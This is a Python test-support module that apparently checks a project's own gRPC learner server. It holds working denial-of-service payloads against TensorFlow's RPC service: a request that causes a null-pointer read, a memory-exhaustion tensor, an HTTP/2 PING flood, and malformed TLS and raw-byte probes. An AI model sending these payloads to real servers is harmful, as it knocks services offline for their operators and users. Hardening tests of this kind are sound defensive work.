"""What a stranger sends to a learner: requests that end or fill TensorFlow's server before it looks at any token.

`python -m tests.support.attacks TARGET NAME` makes one attack on a plain gRPC address, host:port or unix:/path.
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import struct
import sys

import grpc  # type: ignore[import-untyped]

METHOD = "/tensorflow.rpc.RpcService/Call"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
STRING, INT64, VARIANT = 7, 9, 21  # values of TensorFlow's DataType


def varint(number: int) -> bytes:
    """A number as protocol buffers encode it."""
    out = b""
    while number > 127:
        out, number = out + bytes([number & 127 | 128]), number >> 7
    return out + bytes([number])


def field(number: int, data: bytes) -> bytes:
    """A field of bytes, a string or a message."""
    return varint(number << 3 | 2) + varint(len(data)) + data


def tensor(dtype: int, *dims: int, value: bytes = b"") -> bytes:
    """A TensorProto with this shape, whatever its value."""
    shape = b"".join(field(2, varint(1 << 3) + varint(dim)) for dim in dims)
    return varint(1 << 3) + varint(dtype) + field(2, shape) + value


def request(method: bytes, *tensors: bytes) -> bytes:
    """A CallRequest."""
    return field(1, method) + b"".join(field(2, each) for each in tensors)


REQUESTS = {
    # A variant that says that it holds a tensor, and holds none: TensorFlow 2.21 reads from address 0. 33 bytes.
    "crash": request(b"put", tensor(VARIANT, value=field(15, field(1, b"tensorflow::Tensor")))),
    # A tensor that says that it has 200 million elements: TensorFlow allocates them. 18 bytes.
    "fill": request(b"put", tensor(INT64, 200_000_000)),
}
# A connection that never stops asking for answers: 7 MB.
PINGS = PREFACE + struct.pack(">I", 0)[1:] + b"\x04\0\0\0\0\0" + (b"\0\0\x08\x06\0\0\0\0\0" + bytes(8)) * 400_000


def call(target: str, message: bytes, seconds: float = 30.0) -> str:
    """Sends a request to a plain gRPC server. Returns what came back."""
    with grpc.insecure_channel(target) as channel:
        try:
            return repr(channel.unary_unary(METHOD)(message, timeout=seconds))
        except grpc.RpcError as error:
            return str(error.code().name)


def send_raw(address: tuple[str, int], data: bytes, context: ssl.SSLContext | None = None) -> bytes:
    """Sends bytes to a port, by TLS with a context. Returns what came back until the peer closed."""
    answer = b""
    with contextlib.suppress(OSError), contextlib.ExitStack() as stack:
        connection: socket.socket = stack.enter_context(socket.create_connection(address, timeout=15))
        if context:
            connection = stack.enter_context(context.wrap_socket(connection))
        connection.sendall(data)
        while piece := connection.recv(65536):
            answer += piece
    return answer


def stranger_contexts() -> dict[str, ssl.SSLContext]:
    """TLS without a certificate, and with one of another run."""
    from mlma.transport.certificates import tls_context

    bare = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    bare.check_hostname, bare.verify_mode = False, ssl.CERT_NONE
    other = tls_context("the token of another run", server=False)
    other.verify_mode = ssl.CERT_NONE
    return {"no certificate": bare, "another certificate": other}


def attack_port(host: str, port: int) -> None:
    """All attacks on a port that should speak TLS, each in the clear and by TLS without the run's certificate."""
    for name, message in REQUESTS.items():
        print(name, call(f"{host}:{port}", message))
    grpc_bytes = PREFACE + b"\0\0\0\x04\0\0\0\0\0" + b"".join(REQUESTS.values())
    for data in (grpc_bytes, PINGS, bytes(2**16), b"\x16\x03\x01\xff\xff" + b"\x01" * 2**16):
        print(len(data), send_raw((host, port), data)[:80])
        for name, context in stranger_contexts().items():
            print(name, len(data), send_raw((host, port), data, context)[:80])


if __name__ == "__main__":
    target, what = sys.argv[1:]
    if what == "port":
        attack_port(target.rpartition(":")[0], int(target.rpartition(":")[2]))
    else:
        print(call(target, REQUESTS[what]))
